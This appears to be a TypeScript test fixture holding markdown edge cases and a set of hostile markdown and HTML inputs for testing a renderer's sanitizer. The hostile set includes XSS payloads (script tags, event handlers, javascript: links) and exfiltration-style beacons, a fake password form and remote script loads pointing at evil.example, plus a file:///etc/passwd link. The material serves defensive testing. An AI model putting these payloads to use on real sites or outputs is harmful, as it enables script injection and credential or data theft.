/** Markdown as models write it, and as an attacker would write it. */
export const plainDocuments: Readonly<Record<string, string>> = {
  prose:
    'Plain *text* with **bold**, ***both***, ~~gone~~, `code` and a\nsoft break.  \nA hard one.\n\nNext.',
  headings: '# One\n\n## Two\ntext\n\nSetext\n===\n\nOther\n---\n\n####### seven\n',
  lists:
    '- one\n- two\n  - deep\n    1. deeper\n    2. **bold** one\n- three\n\n  with a paragraph\n\n3. third\n4. fourth\n',
  tasks: '- [ ] open **now**\n- [x] done\n- [?] neither\n',
  table: 'Before\n\n| a | b |\n|:--|--:|\n| 1 | *2* |\n| `3` | [four](https://example.com/4) |\n\nAfter',
  fences:
    '```ts\nconst a = "```";\n\n# no heading\n```\n\n~~~\nplain\n~~~\n\n    indented\n\n````md\n```\n````\n',
  openFence: 'Text\n\n```python\nprint("never closed")\n\n- not a list\n',
  quotes: '> one\n> two\n\n> - list\n>   more\nlazy\n\n> > nested\n',
  links:
    'See [a](https://example.com "t"), <https://example.org>, https://example.net/a_b?c=d, www.example.com. [b](<https://e.com/a b>)\n',
  lateReference:
    'First [one][x] and [two] and [not].\n\n- [x] in a list [x]\n\nlast\n\n[x]: https://example.com/x\n[two]: https://example.com/two "T"\n',
  math: 'Cost $5 and $10. But $a_1 + b$ and \\(c\\).\n\n$$\n\\frac{1}{2}\n$$\n\n\\[ x^2 \\]\n\n$$ never closed\n',
  entities: 'a &amp; b &lt;script&gt; &#60;b&#x3e; &unknown; &nbsp;x &#0; &#xD800; `&amp;`\n',
  unicode: 'Zürich 東京 👩‍👩‍👧 e\u0301 **שלום** مرحبا `π`\n\n| ü | 字 |\n|-|-|\n| é | 👍 |\n',
  lineEnds: 'a\r\nb\r\n\r\n- c\r- d\r\n\r\n```\r\ne\r\n```\r\nf',
  emphasis: '**a *b** c* _d_e_ __f__ *** g *** **\n\n* * *\n\n***bold italic*** x**y**z 2 * 3 * 4\n',
  ticks: 'a ``b ` c`` d ` e\n\n`` ` ``\n\n```not a fence``` x\n',
  half: '**bold *italic `code [link](https://example.com/very/long',
  brackets: '[[a]] [b]( [c](d [e][f ![g]( ![h][i] !\\[j] \\[k\\] [l](m(n)o)\n',
  rules: 'a\n***\nb\n\n---\n\n- - -\n\nc\n--\n',
  footnotes:
    'One[^1], two[^note] and one again[^1]; [^none] is not.\n\n- in a list[^b-c]\n\n[^1]: The *first*.\n[^note]: Second,\n    in two lines.\n\n    And two paragraphs with `code`[^b-c].\n\nText between[^note](x).\n\n[^b-c]: Third\n[^unused]: Nothing refers to it.\n[^half]: ```js\n',
  footnoteMarks:
    '[^\n\n[^]: x\n\n[^a b]: c\n\n> [^1]: quoted\n\ntext\n[^1]: at once\n- [^1]: item\n\n[^a](https://a.example) [[^1]](https://a.example)\n',
  notes:
    'As said [1], [2][1] and [3] or [1](https://c.example).\n\n- a list [2]\n- code[0] `[1]` [1][]\n\n[1]: https://a.example/one\n[2]: https://b.example/ "Two"\n[4]: javascript:boom()\n\nand [4]\n',
  alerts:
    '> [!NOTE]\n> Words with **weight**\n> and more\n\n> [!warning]  \n> - a list\n\n> [!TIP]\n\n> [!OTHER]\n> a quotation\n\n> [!CAUTION] on the line\n\n- > [!IMPORTANT]\n  > in a list\n',
  directions:
    'שלום `ls -l` world\n\n> مرحبا بالعالم\n>\n> english\n\n- עברית\n- english\n  1. مرحبا\n\n| שם | b |\n|-|-|\n| c | د |\n\n[قراءة](https://a.example), https://b.example/א\n',
  numbers: '2024\nwas good\n\n1986. A great year\n\n1) one\n2) two\n',
};

export const hostileDocuments: Readonly<Record<string, string>> = {
  script:
    '<script>boom()</script>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\ntext <script>boom()</script> text\n',
  handlers:
    '<img src=x onerror=boom()>\n\n<b onmouseover="boom()">x</b> <details open ontoggle=boom()>\n\n<body onload=boom()>\n',
  frames:
    '<iframe srcdoc="<script>boom()</script>"></iframe>\n\n<object data="javascript:boom()"></object>\n\n<embed src=x>\n',
  styles:
    '<style>*{background:url(//evil.example)}</style>\n\n<p style="position:fixed;inset:0">x</p>\n\n<link rel=stylesheet href=//evil.example>\n',
  forms:
    '<form action=//evil.example><input name=password type=password><button>Sign in</button></form>\n\n<base href=//evil.example>\n',
  svg: '<svg onload=boom()><script>boom()</script><a xlink:href="javascript:boom()"><text>x</text></a></svg>\n',
  mathml:
    '<math><maction actiontype="statusline#" xlink:href="javascript:boom()">x</maction></math>\n\n<math><mtext><table><mglyph><style><img src=x onerror=boom()>\n',
  mutation:
    '<noscript><p title="</noscript><img src=x onerror=boom()>">\n\n<svg></p><style><a id="</style><img src=1 onerror=boom()>">\n\n<!--><img src=x onerror=boom()>-->\n',
  javascriptLinks:
    '[a](javascript:boom()) [b](JaVaScRiPt:boom()) [c](javascript&colon;boom()) [d](java&Tab;script:boom()) [e](&#106;avascript:boom()) [f](<java\nscript:boom()>) [g](\u0001javascript:boom()) [h](javascript&#x3a;boom()) [i]( javascript:boom() )\n',
  otherLinks:
    '[a](data:text/html,<script>boom()</script>) [b](vbscript:boom()) [c](file:///etc/passwd) [d](blob:https://x/1) [e](//evil.example) [f](/chat/usage) [g](https://user:pass@evil.example) [h](intent://x) <javascript:boom()> <data:text/html,x>\n',
  references:
    '[a][x] [b][y] ![c][x]\n\n[x]: javascript:boom()\n[y]: data:text/html;base64,PHNjcmlwdD4=\n[__proto__]: https://example.com\n[constructor]\n',
  beacons:
    '![a](https://evil.example/p.png?q=secret) ![b](data:image/svg+xml,<svg/onload=boom()>) [![c](https://evil.example/c.gif)](https://evil.example) ![d][e]\n\n[e]: https://evil.example/e.png\n',
  titles:
    '[a](https://example.com "x\\" onmouseover=boom() y") ![b](https://example.com/b.png "\'onerror=boom()")\n',
  fenceInfo:
    '```"><img/src=x/onerror=boom()>\n<script>boom()</script>\n```\n\n``` js onclick=boom()\nx\n```\n',
  texCommands:
    '$\\href{javascript:boom()}{x}$ $\\url{javascript:boom()}$ $\\class{toast}{x}$ $\\style{position:fixed}{x}$ $\\htmlId{app}{x}$\n\n$$\n\\includegraphics{https://evil.example/x.png} \\text{<img src=x onerror=boom()>}\n$$\n\n$\\def\\a{\\a\\a}\\a$ $\\color{red}\\rule{999em}{999em}$\n',
  hostileNotes:
    '[^x]: <img src=x onerror=boom()> [a](javascript:boom())\n\n[^x]\n\n[^constructor] [^__proto__] [^toString]\n\n[^constructor]: a\n\n> [!NOTE]<script>boom()</script>\n> x\n\n[1] [2]\n\n[1]: javascript:boom()\n[2]: https://user:pass@evil.example/\n',
  cells:
    '| <script>boom()</script> | [x](javascript:boom()) |\n|--|--|\n| <img src=x onerror=boom()> | ![y](https://evil.example/y) |\n',
  clobber:
    '<a id=app></a><form name=body><input id=parley-data></form>\n\n<p id="__proto__" class="dialog" slot=x>\n',
  nested:
    '> - 1. <script>boom()</script>\n>   - [x](javascript:boom())\n>     ```html\n>     <script>boom()</script>\n',
  nullBytes: 'a\u0000b <scr\u0000ipt>boom()</script> [x](java\u0000script:boom())\n',
};
